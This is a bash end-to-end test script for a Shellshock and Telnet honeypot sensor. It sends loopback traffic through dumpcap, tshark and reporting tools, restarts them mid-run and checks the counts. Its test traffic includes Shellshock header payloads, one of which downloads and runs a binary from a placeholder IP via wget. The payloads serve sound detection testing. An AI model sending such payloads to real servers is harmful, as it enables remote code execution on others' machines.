#!/bin/bash
# e2e_live.sh - a live sensor on loopback, end to end: real traffic, real
# dumpcap and tshark with the plugin, both live paths, restarts.
#
# An HTTP server and a Telnet-like login listener run on 127.0.0.1 (free
# high ports; tests/tools/loopback-peers.pl).  Local clients send Shellshock
# requests of each grade, ordinary requests and Telnet logins in three
# batches.  The capture side runs as an unprivileged user with the capture
# capabilities (as root: "nobody" with CAP_NET_RAW/CAP_NET_ADMIN as ambient
# capabilities, what a systemd unit's AmbientCapabilities= gives):
#   - dumpcap writes a ring of 3-second files, honeyshark-follow counts them;
#   - honeyshark-live (dumpcap -w - | tshark -r - -l -T ek | honeyshark-report
#     --follow) emits 10 s buckets.
# Between batch 1 and 2 both consumers are stopped (SIGTERM) and started
# again; batch 2 is sent while they are down.  The ring still holds it, so
# the follower must count all three batches exactly once; the live stream
# never saw batch 2, so it must count batches 1 and 3, each bucket once.
# Then a ring that deletes files nobody read must report them as missed.
set -u
. "$(dirname "$0")/lib.sh"
SRC=${HS_SOURCE_DIR:?HS_SOURCE_DIR must point at the source tree}
hs_setup
hs_require_plugin shellshock login

W=$HS_TMP/live
BIN=$HS_TMP/bin
mkdir -p "$W/ring" "$W/ring2" "$W/buckets" "$W/tmp" "$BIN"
cp "$HS_BUILD_DIR/postproc/honeyshark-report" "$SRC/postproc/honeyshark-batch" \
    "$SRC/postproc/honeyshark-follow" "$SRC/postproc/honeyshark-live" "$BIN/"
chmod -R a+rX "$BIN"
PEERS=(perl "$SRC/tests/tools/loopback-peers.pl")
HSR=$BIN/honeyshark-report

# "${SENSOR[@]}" CMD...: as the capture user, with the plugin and these
# programs (an exec chain, so CMD & gives CMD's own pid in $!).
SENSOR=(env "HOME=$HS_TMP/home" "TMPDIR=$W/tmp" "XDG_CONFIG_HOME=$HS_TMP/home/.config"
    "WIRESHARK_PLUGIN_DIR=$HS_PLUGIN_DIR" LC_ALL=C.UTF-8 "PATH=$BIN:$PATH")
if [ "$(id -u)" = 0 ]; then
    chown -R nobody "$W"
    SENSOR=(setpriv --reuid=nobody --regid=nogroup --init-groups --inh-caps=+net_raw,+net_admin
        --ambient-caps=+net_raw,+net_admin "${SENSOR[@]}")
fi
if ! "${SENSOR[@]}" dumpcap -q -i lo -a duration:1 -w "$W/probe.pcapng" 2>"$W/probe.err"; then
    echo "FATAL: dumpcap cannot capture on lo as $(id -un) (add the user to the wireshark group," >&2
    echo "       or run the test as root):" >&2
    sed 's/^/       /' "$W/probe.err" >&2
    exit 1
fi

PIDS=()
cleanup() {
    local p
    for p in "${PIDS[@]}"; do kill -TERM "$p" 2>/dev/null; done
    sleep 0.5
    for p in "${PIDS[@]}"; do kill -KILL "$p" 2>/dev/null; done
    [ -n "${HS_KEEP:-}" ] && { echo "kept $HS_TMP" >&2; return; }
    rm -rf "$HS_TMP"
}
trap cleanup EXIT

# wait_for SECONDS COMMAND...: until the command succeeds; 1 on timeout.
wait_for() {
    local end=$((SECONDS + $1))
    shift
    until "$@"; do
        [ "$SECONDS" -ge "$end" ] && return 1
        sleep 0.3
    done
}

"${PEERS[@]}" serve "$W/ports" 600 &
PIDS+=($!)
wait_for 10 test -s "$W/ports" || { echo "FATAL: the loopback peers did not start" >&2; exit 1; }
read -r HP TP <"$W/ports"
FILTER="tcp port $HP or tcp port $TP"
DECODE=(-d "tcp.port==$HP,http" -d "tcp.port==$TP,telnet")

# ---- the ring and its follower ------------------------------------------
"${SENSOR[@]}" dumpcap -q -i lo -f "$FILTER" -b duration:3 -b files:500 -w "$W/ring/lo.pcapng" \
    2>"$W/dumpcap.err" &
DUMPCAP=$!
PIDS+=("$DUMPCAP")
FOLLOW=()
for a in "${DECODE[@]}"; do FOLLOW+=(--tshark-arg "$a"); done
start_follower() {
    "${SENSOR[@]}" honeyshark-follow -d "$W/state" -o "$W/out" -i 1 "${FOLLOW[@]}" "$W/ring" \
        2>>"$W/follow.log" &
    FOLLOWER=$!
    PIDS+=("$FOLLOWER")
}

# ---- the live stream: honeyshark-live ------------------------------------
LIVE_CMD=(honeyshark-live -i lo -f "$FILTER")
for a in "${DECODE[@]}"; do LIVE_CMD+=(--tshark-arg "$a"); done
LIVE_CMD+=(-- -b 10s --grace 2s -r timeline -f csv -o "$W/live.csv"
    --checkpoint "$W/live.ckpt" --checkpoint-every 2s --bucket-states "$W/buckets")
start_live() {
    : >"$W/live.err"
    "${SENSOR[@]}" "${LIVE_CMD[@]}" 2>>"$W/live.err" &
    LIVE=$!
    PIDS+=("$LIVE")
    wait_for 30 grep -qs "Capturing on" "$W/live.err" ||
        { echo "FATAL: honeyshark-live's capture did not start:" >&2; cat "$W/live.err" >&2; exit 1; }
}
# stop PID: SIGTERM, then wait for it to exit.
stop() {
    kill -TERM "$1" 2>/dev/null
    wait "$1" 2>/dev/null
    local rc=$?
    return $rc
}
stop_live() {
    stop "$LIVE"
    LIVE_RC=$?
}

wait_for 20 compgen -G "$W/ring/lo_*" >/dev/null || { echo "FATAL: dumpcap wrote no ring file" >&2; cat "$W/dumpcap.err" >&2; exit 1; }
start_follower
start_live

# ---- traffic ------------------------------------------------------------
GREEN='() { :; }; echo honeyshark-live-probe'
YELLOW='() { :;}; /bin/ping -c1 10.246.50.2'
RED='() { :; }; /bin/bash -c "cd /tmp;wget http://198.51.100.9/x86;chmod 777 x86;./x86"'
BENIGN='Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0'
SENT_OK=0 SENT=0
http() {
    SENT=$((SENT + 1))
    [ "$("${PEERS[@]}" http "$HP" "$1")" = "HTTP/1.1 200 OK" ] && SENT_OK=$((SENT_OK + 1))
}
telnet() {
    SENT=$((SENT + 1))
    "${PEERS[@]}" telnet "$TP" "$1" "$2" | grep -q "Login incorrect" && SENT_OK=$((SENT_OK + 1))
}
# batch GREEN YELLOW RED BENIGN TELNET: that many of each.
batch() {
    local i
    for ((i = 0; i < $1; i++)); do http "$GREEN"; done
    for ((i = 0; i < $2; i++)); do http "$YELLOW"; done
    for ((i = 0; i < $3; i++)); do http "$RED"; done
    for ((i = 0; i < $4; i++)); do http "$BENIGN"; done
    for ((i = 0; i < $5; i++)); do telnet root "xc351$i"; done
}

batch 2 1 1 1 2
sleep 4 # a ring file or two finished and counted, a live bucket perhaps too

# Both consumers stop (SIGTERM) and batch 2 arrives while they are down.
stop "$FOLLOWER"
hs_eq "honeyshark-follow exits 0 on SIGTERM" "$?" 0
stop_live
hs_eq "honeyshark-live exits 0 on SIGTERM" "$LIVE_RC" 0
hs_eq "the live checkpoint was written on SIGTERM" "$(test -s "$W/live.ckpt" && echo yes)" yes
batch 1 0 2 1 1
start_follower
start_live
batch 1 2 1 2 3
hs_eq "every request and login was answered" "$SENT_OK" "$SENT"

# The ring: dumpcap stops, so its newest file is finished; the running
# follower is stopped and a last --once --last counts what is left.
sleep 4
stop "$DUMPCAP"
stop "$FOLLOWER"
"${SENSOR[@]}" honeyshark-follow --once --last -d "$W/state" -o "$W/out" "${FOLLOW[@]}" "$W/ring" \
    2>>"$W/follow.log"
hs_eq "honeyshark-follow --once --last exits 0" "$?" 0

# sums CSV COLUMN...: each column summed over the rows (not the totals).
sums() {
    local file=$1
    shift
    awk -F, -v want="$*" '{ sub(/\r$/, "") } NR == 1 { n = split(want, w, " "); for (i = 1; i <= NF; i++) col[$i] = i; next }
        $1 != "total" { for (j = 1; j <= n; j++) s[j] += $(col[w[j]]) }
        END { for (j = 1; j <= n; j++) printf "%s%d", (j > 1 ? " " : ""), s[j]; print "" }' "$file"
}
# attempts STATE-ARGS...: "telnet-port other" connection attempts of 127.0.0.1.
attempts() {
    "$HSR" merge "$@" -r multiport -p "tcp/$TP" -f csv -n 0 |
        awk -F, -v p="attempts:tcp/$TP" '{ sub(/\r$/, "") } NR == 1 { for (i = 1; i <= NF; i++) c[$i] = i; next }
            $(c["source"]) == "127.0.0.1" { print $(c[p]), $(c["attempts:other"]) }'
}

STATE=$W/state/current/state
"$HSR" merge "$STATE" -r timeline -f csv >"$W/follow-timeline.csv"
hs_eq "ring: Shellshock attempts green yellow red, all three batches once" \
    "$(sums "$W/follow-timeline.csv" ss_green ss_yellow ss_red ss_attempts)" "4 3 4 11"
hs_eq "ring: Telnet and HTTP connections of all three batches" "$(attempts "$STATE")" "6 15"
RING_FILES=$(find "$W/ring" -name 'lo_*' | wc -l)
COUNTED=$(grep -c '^counted' "$W/state/current/ledger")
hs_eq "ring: every file of the ring counted" "$COUNTED" "$RING_FILES"
hs_eq "ring: no file counted twice" "$(grep '^counted' "$W/state/current/ledger" | cut -f2 | sort | uniq -d | wc -l)" 0
hs_eq "ring: nothing missed or failed" "$(grep -cE '^(missed|failed)' "$W/state/current/ledger")" 0
hs_eq "ring: the status file agrees" "$(grep -E '^files_(counted|behind|missed)=' "$W/state/status" | tr '\n' ' ')" \
    "files_counted=$COUNTED files_behind=0 files_missed=0 "
# The running state is exactly what one run over the whole ring gives.
"${SENSOR[@]}" honeyshark-batch "${FOLLOW[@]}" --save-state "$W/oneshot.state" "$W/ring"/lo_* -- -q \
    >/dev/null 2>"$W/oneshot.err"
for r in timeline ports multiport as-time exploits; do
    hs_eq "ring: $r equals one honeyshark-batch run over the ring" \
        "$("$HSR" merge "$STATE" -r "$r" -f csv -n 0 | md5sum)" \
        "$("$HSR" merge "$W/oneshot.state" -r "$r" -f csv -n 0 | md5sum)"
done
hs_eq "ring: the HTML page is written" "$(grep -c 'honeyshark' "$W/out/index.html" | awk '{ print ($1 > 0) }')" 1
hs_eq "ring: the tables are the running state's" "$(md5sum <"$W/out/grades.txt")" \
    "$("$HSR" merge "$STATE" -r grades | md5sum)"

# ---- the live stream ----------------------------------------------------
# Buckets close by the wall clock (10 s buckets, 2 s grace) with no traffic.
wait_for 40 test "$(sums "$W/live.csv" ss_attempts 2>/dev/null)" = 8
stop_live
hs_eq "live: buckets were closed by the wall clock, all 8 attempts emitted before SIGTERM" \
    "$(sums "$W/live.csv" ss_green ss_yellow ss_red ss_attempts)" "3 3 2 8"
hs_eq "live: one CSV header" "$(grep -c '^bucket,' "$W/live.csv")" 1
hs_eq "live: no bucket emitted twice" "$(tail -n +2 "$W/live.csv" | cut -d, -f1 | grep -v '^total' | sort | uniq -d | wc -l)" 0
before=$(md5sum <"$W/live.csv")
"${SENSOR[@]}" honeyshark-report --follow -b 10s --grace 2s -r timeline -f csv -o "$W/live.csv" \
    --checkpoint "$W/live.ckpt" --flush --bucket-states "$W/buckets" </dev/null 2>>"$W/live.err"
hs_eq "live: a final --flush exits 0" "$?" 0
hs_eq "live: ... and has nothing left to emit" "$(md5sum <"$W/live.csv")" "$before"
hs_eq "live: Telnet and HTTP connections of batches 1 and 3 (bucket states merged)" \
    "$(attempts "$W"/buckets/*.state)" "5 11"

# ---- a ring that deletes files nobody read ------------------------------
"${SENSOR[@]}" dumpcap -q -i lo -f "$FILTER" -b duration:1 -b files:2 -a duration:5 -w "$W/ring2/x.pcapng" \
    2>"$W/dumpcap2.err"
LASTSEQ=$(find "$W/ring2" -name 'x_*' -printf '%f\n' | sed -E 's/^x_0*([0-9]+)_.*/\1/' | sort -n | tail -1)
"${SENSOR[@]}" honeyshark-follow --once --last -d "$W/state2" "${FOLLOW[@]}" "$W/ring2" 2>"$W/follow2.log"
hs_eq "deleted ring files: --once exits 3" "$?" 3
hs_eq "deleted ring files: reported as missed" "$(grep -c 'were deleted before they were read' "$W/follow2.log")" 1
hs_eq "deleted ring files: the ledger counts them" \
    "$(awk -F'\t' '$1 == "missed" { n += $3 } END { print n + 0 }' "$W/state2/current/ledger")" "$((LASTSEQ - 2))"
hs_eq "deleted ring files: the status says so" "$(grep '^files_missed=' "$W/state2/status")" \
    "files_missed=$((LASTSEQ - 2))"

# tshark -i would have left a temporary capture file growing in TMPDIR.
hs_eq "live: nothing left in TMPDIR (no temporary capture file)" "$(find "$W/tmp" -mindepth 1 | wc -l)" 0

# ---- honeyshark-live when a side fails ----------------------------------
timeout 30 "${SENSOR[@]}" honeyshark-live -i lo -- -b 7x </dev/null 2>"$W/live-bad.err"
hs_eq "honeyshark-live: a report option refused exits 2" "$?" 2
hs_eq "... and says why" "$(grep -c 'honeyshark-report: .*7x' "$W/live-bad.err")" 1
timeout 30 "${SENSOR[@]}" honeyshark-live -i hs-no-such0 -- -b 10s </dev/null 2>"$W/live-bad.err"
hs_eq "honeyshark-live: the capture failing (no such interface) exits 1" "$?" 1
hs_eq "... and says so" "$(grep -c 'honeyshark-live: the capture stopped' "$W/live-bad.err")" 1

if [ "$HS_FAIL" != 0 ]; then
    for f in follow.log live.err dumpcap.err oneshot.err follow2.log; do
        echo "--- $f"
        tail -20 "$W/$f" 2>/dev/null
    done
    echo "--- live.csv"
    cat "$W/live.csv"
fi
hs_done
